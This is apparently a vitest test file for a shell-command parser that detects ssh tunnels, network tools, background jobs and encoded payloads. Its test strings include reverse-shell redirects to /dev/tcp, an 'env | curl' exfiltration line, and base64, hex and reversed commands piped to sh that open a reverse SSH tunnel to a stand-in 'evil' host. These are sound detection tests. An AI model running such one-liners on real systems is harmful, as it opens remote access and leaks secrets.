// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell text is full of them

import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { parseCommand, parseLimits } from './parse.ts'

/** Programs with their arguments, as one readable line each. */
function lines(text: string): string[] {
  return parseCommand(text).map((i) => i.argv.join(' '))
}

describe('words', () => {
  test.each([
    [`echo "a b" 'c' d\\ e f#g #comment`, ['echo a b c d e f#g']],
    [`ssh \\\n  -R 1:h:2 \\\n  host`, ['ssh -R 1:h:2 host']],
    [`printf $'a\\x62c'`, ['printf abc']],
    ['X=1.2.3.4; ssh root@$X', ['ssh root@1.2.3.4']],
    ['export HOST=h PORT=22; ssh -p "${PORT}" ${HOST}', ['ssh -p 22 h']],
    ['ssh ${HOST:-fallback.example.com}', ['ssh fallback.example.com']],
    ['CMD="ssh -N h"; $CMD', ['ssh -N h']],
    ['ssh $UNKNOWN', ['ssh $UNKNOWN']],
    ['s${IFS}x', ['s x']],
    ['a=(x y z); echo "${a[@]}" done', ['echo x y z done']],
    ['A=1 B=2 env C=3 python x.py', ['python x.py']],
    ["s''sh -R 1:h:2 x", ['ssh -R 1:h:2 x']],
    ['s\\sh x', ['ssh x']],
  ])('%s', (text, expected) => {
    expect(lines(text)).toEqual(expected)
  })
})

describe('structure', () => {
  test.each([
    ['a && b || c; d & e\nf', ['a', 'b', 'c', 'd', 'e', 'f']],
    ['a | b |& c', ['a', 'b', 'c']],
    ['if [ -f x ]; then curl a; else wget b; fi', ['[ -f x ]', 'curl a', 'wget b']],
    ['case $1 in a) echo x;; b|c) ssh h;; esac', ['echo x', 'ssh h']],
    ['f() { ssh h; }; f', ['ssh h', 'f']],
    ['function g { nc h 1; }', ['nc h 1']],
    ['echo $(curl a) `wget b`', ['curl a', 'wget b', 'echo $(curl a) `wget b`']],
    ['diff <(sort a) <(ssh h cat b)', ['sort a', 'ssh h cat b', 'diff /dev/fd/63 /dev/fd/63']],
    ['cat <<EOF > f\nssh h\nEOF\nls', ['cat', 'ls']],
    ['cat <<-\tEOF\n\tssh h\n\tEOF\nls', ['cat', 'ls']],
    ['echo $((1+2)); ((i++)); ls', ['echo $((1+2))', 'ls']],
    ['2>&1 ls >out 2>/dev/null', ['ls']],
  ])('%s', (text, expected) => {
    expect(lines(text)).toEqual(expected)
  })

  test('a loop marks its body, and what changes in it', () => {
    const [ping] = parseCommand('for i in 1 2 3; do ping 10.0.0.$i; done')
    expect(ping).toMatchObject({ inLoop: true, varies: true, argv: ['ping', '10.0.0.1'] })
    const [curl] = parseCommand('while true; do curl -s h; done').filter((i) => i.program === 'curl')
    expect(curl).toMatchObject({ inLoop: true, varies: false })
  })

  test('a loop over what a command prints keeps its variable', () => {
    for (const list of ['`seq 1 254`', '$(seq 1 254)', '{1..254}']) {
      const ping = parseCommand(`for i in ${list}; do ping 10.0.0.$i; done`).find((i) => i.program === 'ping')
      expect(ping).toMatchObject({ inLoop: true, varies: true })
    }
  })

  test.each([
    ['sleep 100 &', true],
    ['(while true; do ssh h; done) &', true],
    ['{ a; b; } & c', true],
    ['for i in 1 2; do a; done & b', true],
    ['nohup a', true],
    ['tmux new-session -d -s t "a b"', true],
    ['screen -dmS n a', true],
    ['a && b', false],
    ['a 2>&1', false],
    ['a &> log', false],
  ])('%s runs in the background: %s', (text, expected) => {
    expect(parseCommand(text).some((i) => i.background)).toBe(expected)
  })

  test('redirects and what is piped in are kept', () => {
    expect(parseCommand('bash -c "</dev/tcp/192.0.2.1/44"')[0]).toMatchObject({
      program: ':',
      redirects: [{ op: '<', target: '/dev/tcp/192.0.2.1/44' }],
    })
    expect(parseCommand('bash -i >& /dev/tcp/192.0.2.1/44 0>&1')[0]?.redirects[0]).toEqual({
      op: '>&',
      target: '/dev/tcp/192.0.2.1/44',
    })
    expect(parseCommand('env | curl -d @- h')[1]).toMatchObject({ program: 'curl', pipedFrom: 'env' })
  })
})

describe('wrappers and other shells', () => {
  test.each([
    ['sudo -u bob nohup ssh h', 'ssh h', ['sudo', 'nohup']],
    ['env -i A=b timeout -k 5 60 ssh h', 'ssh h', ['env', 'timeout']],
    ["bash -lc 'ssh h'", 'ssh h', ['bash']],
    ["su - bob -c 'ssh h'", 'ssh h', ['su']],
    ['sshpass -p secret ssh h', 'ssh h', ['sshpass']],
    ['autossh -M 20000 -N -R 1:l:2 h', 'ssh -N -R 1:l:2 h', ['autossh']],
    ['ip netns exec ns1 ssh h', 'ssh h', ['ip']],
    ['proxychains4 -q nmap h', 'nmap h', ['proxychains4']],
    ['stdbuf -oL nice -n 10 ssh h', 'ssh h', ['stdbuf', 'nice']],
    ['watch -n 5 "ssh h uptime"', 'ssh h uptime', ['watch']],
    ['xargs -I{} -P 4 nc -z {} 22', 'nc -z {} 22', ['xargs']],
    ['eval "ssh h"', 'ssh h', []],
    ['tmux send-keys -t s "ssh h" Enter', 'ssh h', ['tmux']],
    ['flock -n /tmp/l ssh h', 'ssh h', ['flock']],
  ])('%s', (text, expected, wrappers) => {
    const [found] = parseCommand(text)
    expect(found?.argv.join(' ')).toBe(expected)
    expect(found?.wrappers).toEqual(wrappers)
  })

  test.each([
    ["docker exec -it web sh -c 'curl h'", 'curl h'],
    ['kubectl exec -n x pod -- curl h', 'curl h'],
    ['npx localtunnel --port 80', 'localtunnel --port 80'],
    ['find . -name a -exec curl h {} \\;', 'curl h {}'],
    ['uv run python x.py', 'python x.py'],
  ])('%s reports both', (text, expected) => {
    const found = lines(text)
    expect(found[0]).toBe(text.replace(/'/g, '').replace('\\;', ';'))
    expect(found[1]).toBe(expected)
  })
})

describe('encodings', () => {
  const hidden = 'ssh -R 2222:localhost:22 evil@203.0.113.7'
  const base64 = btoa(hidden)
  const hex = [...hidden].map((c) => c.charCodeAt(0).toString(16).padStart(2, '0')).join('')
  test.each([
    [`echo ${base64} | base64 -d | sh`],
    [`bash -c "$(echo ${base64} | base64 --decode)"`],
    [`base64 -d <<< ${base64} | bash`],
    [`base64 -d <<EOF | sh\n${base64}\nEOF`],
    [`echo ${hex} | xxd -r -p | sh`],
    [`printf '${hex.replace(/../g, '\\x$&')}' | sh`],
    [`eval "$(printf ${base64} | openssl base64 -d)"`],
    [`echo '${[...hidden].reverse().join('')}' | rev | sh`],
    [`A=${base64}; echo $A | base64 -d | bash`],
    [`python3 -c "import os,base64; os.system(base64.b64decode('${base64}'))"`],
    [`python3 -c "exec(__import__('base64').b64decode('${btoa(`import os; os.system('${hidden}')`)}'))"`],
    [`node -e "require('child_process').execSync('${hidden}')"`],
    [`python - <<'EOF'\nimport subprocess\nsubprocess.run(${JSON.stringify(hidden.split(' '))})\nEOF`],
    [`perl -e 'system("${hidden.replace('@', '\\@')}")'`],
  ])('%s', (text) => {
    const ssh = parseCommand(text).find((i) => i.program === 'ssh')
    expect(ssh?.argv.slice(0, 3)).toEqual(['ssh', '-R', '2222:localhost:22'])
  })
})

describe('hostile text', () => {
  test('any text is read without an exception, within the limits', () => {
    const shellish = fc.string({
      unit: fc.constantFrom(
        ...[
          'a',
          ' ',
          '\n',
          '$',
          '(',
          ')',
          '`',
          '"',
          "'",
          '\\',
          '|',
          '&',
          ';',
          '<',
          '>',
          '{',
          '}',
          '=',
          '#',
          '/',
        ],
        ...['do ', 'done', 'for x in ', 'case ', '<<A\n', 'sudo ', 'bash -c ', 'eval ', '$(', '${x', '| sh'],
      ),
      maxLength: 400,
    })
    fc.assert(
      fc.property(fc.oneof(shellish, fc.string({ unit: 'binary', maxLength: 400 })), (text) => {
        const found = parseCommand(text)
        expect(found.length).toBeLessThanOrEqual(parseLimits.invocations)
        for (const { program, argv } of found) {
          expect(typeof program).toBe('string')
          expect(argv.length).toBeGreaterThan(0)
        }
      }),
      { numRuns: 2_000 },
    )
  })

  test.each([
    ['a megabyte of letters', 'a'.repeat(1_000_000)],
    ['a megabyte of commands', 'ls;'.repeat(350_000)],
    ['deep substitutions', '$('.repeat(200_000)],
    ['deep subshells', '('.repeat(500_000)],
    ['open quotes', `'"`.repeat(500_000)],
    ['many here-documents', '<<A '.repeat(100_000)],
    ['nested shells', `${'bash -c "'.repeat(5_000)}ssh h`],
    ['a growing variable', 'X=aaaaaaaaaaaaaaaa; '.concat('X=$X$X$X$X; '.repeat(500), 'echo $X')],
    ['self-decoding', `X='eval "$X$X"'; eval "$X"`],
    ['open braces', '${'.repeat(8_000)],
    ['backticks', '`'.repeat(8_001)],
  ])('%s', (_, text) => {
    expect(parseCommand(text).length).toBeLessThanOrEqual(parseLimits.invocations)
  })

  test('names of object properties are names like any other', () => {
    expect(lines('__proto__=x; constructor a; echo $__proto__ $toString')).toEqual([
      'constructor a',
      'echo x $toString',
    ])
  })
})
